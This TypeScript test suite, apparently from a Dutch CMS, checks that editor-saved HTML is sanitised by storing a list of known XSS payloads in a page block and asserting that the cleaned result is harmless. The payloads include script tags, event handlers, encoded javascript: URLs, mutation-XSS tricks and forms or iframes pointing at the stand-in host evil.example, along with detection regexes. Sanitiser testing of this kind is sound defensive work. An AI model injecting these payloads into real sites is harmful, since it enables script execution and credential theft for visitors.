import { JSDOM } from 'jsdom';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Block } from '../../api/content/blocks.ts';
import type { PageAnswer } from '../../api/content/pages.ts';
import { EDITOR_EMAIL, signedIn, type TestClient } from './content-fixtures.ts';
import { Client } from './harness.ts';

// What an editor saves is cleaned before it is stored (domain/safe-html.ts): known XSS payloads,
// each after harmless markup that must survive, saved to a block of the privacy page and read back.

/** True when nothing in the HTML can run script or load what it should not. */
function isHarmless(html: string): boolean {
  const { document } = new JSDOM('<!DOCTYPE html><body></body>').window;
  const root = document.createElement('div');
  root.innerHTML = html;
  if (
    root.querySelector(
      'script, style, iframe, frame, object, embed, form, input, button, svg, math, base, textarea',
    )
  )
    return false;
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on') || ['style', 'srcdoc', 'action', 'formaction', 'xlink:href'].includes(name))
        return false;
      if (name === 'href' || name === 'src') {
        const value = [...attribute.value].filter((c) => (c.codePointAt(0) ?? 0) > 0x20).join('');
        if (/^(javascript|vbscript|data):/i.test(value)) return false;
      }
    }
  }
  return true;
}

export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/media/pages/a.svg" onload="alert(1)">',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="  javascript:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">klik</math>',
  '<form action="https://evil.example/"><input name="wachtwoord"><button formaction="javascript:alert(1)">Verstuur</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">klik</text></a></svg>',
];

const HARMLESS =
  '<h2>Kom langs</h2><p>Open van <strong>maandag</strong> tot <em>vrijdag</em>; lees de <a href="/algemene-voorwaarden">voorwaarden</a>.</p>';

export function sanitiseSuite(base: () => string) {
  let editor: TestClient;
  let block: Block;

  beforeAll(async () => {
    editor = await signedIn(base(), EDITOR_EMAIL);
    const page = await new Client(base()).ok<PageAnswer>('/main/pages/privacy/');
    const first = page.blocks[0];
    if (!first) throw new Error('privacy has no blocks');
    block = first;
  });

  describe('sanitising', () => {
    it.each(XSS_PAYLOADS)('stores and answers %s harmless, keeping the harmless markup', async (payload) => {
      const answer = await editor.send<Block>('PUT', `/main/blocks/${block.id}/`, {
        content: HARMLESS + payload,
      });
      expect(answer.status).toBe(200);
      const read = await new Client(base()).ok<PageAnswer>('/main/pages/privacy/');
      const stored = read.blocks.find((b) => b.id === block.id)?.content ?? '';
      expect(stored).toBe(answer.body.content);
      expect(isHarmless(stored), stored).toBe(true);
      expect(stored).not.toMatch(
        /onerror|onload|ontoggle|javascript:|<script|<iframe|<form|<style|srcdoc|data:/i,
      );
      expect(stored.startsWith(HARMLESS), stored).toBe(true);
    });
  });
}
